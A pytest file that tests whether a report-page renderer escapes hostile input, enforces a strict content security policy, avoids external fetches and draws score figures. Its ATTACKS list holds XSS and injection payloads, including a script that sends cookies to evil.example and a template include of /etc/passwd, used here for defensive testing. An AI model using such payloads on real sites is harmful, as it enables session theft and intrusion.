"""The one-file page: opens offline, runs nothing, shows hostile text as text. And the figure on it."""

from __future__ import annotations

import xml.etree.ElementTree as ElementTree
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from journeyman.report.figure import Curve, best_so_far, draw_best_so_far
from journeyman.report.page import MAX_DIFF, Page, render
from journeyman.report.table import Table

ATTACKS = [
    "<script>fetch('http://evil.example/'+document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "</pre></code></style><h1>score 9.99</h1>",
    "{{ 7 * 7 }} {% include '/etc/passwd' %}",
    "javascript:alert(1)",
    "\x1b[2J\u202egnp.exe",
    "]]><!--",
]


ELEMENTS = {
    "html", "head", "meta", "title", "style", "body", "main", "section", "footer", "h1", "h2", "p", "dl", "div", "dt",
    "dd", "figure", "img", "figcaption", "table", "thead", "tbody", "tr", "th", "td", "pre", "code", "span",
}  # fmt: skip


class Reader(HTMLParser):
    """Every element with its attributes, and the text outside of the style sheet."""

    def __init__(self) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data


def page_of(text: str) -> Page:
    return Page(
        title=text, subtitle=text, facts=[(text, text)], figure_caption=text, diff=f"--- a\n+++ b\n+{text}\n-{text}",
        diff_title=text, footer=text,
        tables=[Table((text, "n"), [(text, text)], title=text, numbers=frozenset({"n"}), note=text)],
        figure=draw_best_so_far([Curve(text, [0.1, None, 0.5])], direction="maximize", score_label=text),
    )  # fmt: skip


@pytest.mark.parametrize("attack", ATTACKS)
def test_hostile_text_stays_text(attack: str) -> None:
    reader = Reader()
    reader.feed(render(page_of(attack)))
    assert {tag for tag, _ in reader.elements} <= ELEMENTS
    for _, attributes in reader.elements:
        assert not [name for name in attributes if name.startswith("on") or name in ("href", "style", "srcset")]
        source = attributes.get("src")
        assert source is None or source.startswith("data:image/svg+xml;base64,")
    assert "49" not in reader.text
    assert "\x1b" not in reader.text
    assert "\u202e" not in reader.text


@given(st.text(max_size=60))
def test_any_text_gives_the_same_structure(text: str) -> None:
    def tags(body: str) -> list[str]:
        reader = Reader()
        reader.feed(render(Page(title=body, facts=[(body, body)], footer=body or "x")))
        return [tag for tag, _ in reader.elements]

    assert tags(text) == tags("plain")


def test_the_policy_forbids_everything_but_the_style_sheet_and_the_picture() -> None:
    reader = Reader()
    reader.feed(render(page_of("x")))
    policy = next(a["content"] for tag, a in reader.elements if tag == "meta" and "http-equiv" in a)
    assert policy is not None
    assert policy.startswith("default-src 'none'; img-src data:; style-src 'sha256-")
    assert "unsafe" not in policy


def test_nothing_on_the_page_is_fetched() -> None:
    text = render(page_of("x"))
    assert "http://" not in text
    assert "https://" not in text


def test_a_huge_difference_is_cut_and_says_so() -> None:
    text = render(Page(title="t", diff="+" + "x" * (MAX_DIFF + 5)))
    assert "(6 more characters)" in text


def test_best_so_far_skips_what_has_no_score() -> None:
    assert best_so_far([None, 2.0, 1.0, None, 3.0], "maximize") == [None, 2.0, 2.0, 2.0, 3.0]
    assert best_so_far([None, 2.0, 1.0, None, 3.0], "minimize") == [None, 2.0, 1.0, 1.0, 1.0]


def test_the_figure_is_a_picture_without_scripts() -> None:
    curves = [Curve("seed 0", [0.0, 0.2, None, 0.1, 0.4]), Curve("_$x^2$<b>", [0.0, -9e9, 0.3])]
    first = draw_best_so_far(curves, direction="maximize")
    root = ElementTree.fromstring(first)
    assert root.tag.endswith("svg")
    assert b"<script" not in first
    assert draw_best_so_far(curves, direction="maximize", file_format="png").startswith(b"\x89PNG")


def test_a_figure_of_nothing_is_refused() -> None:
    with pytest.raises(ValueError, match="no candidate has a score"):
        draw_best_so_far([Curve("a", [None, None])], direction="minimize")
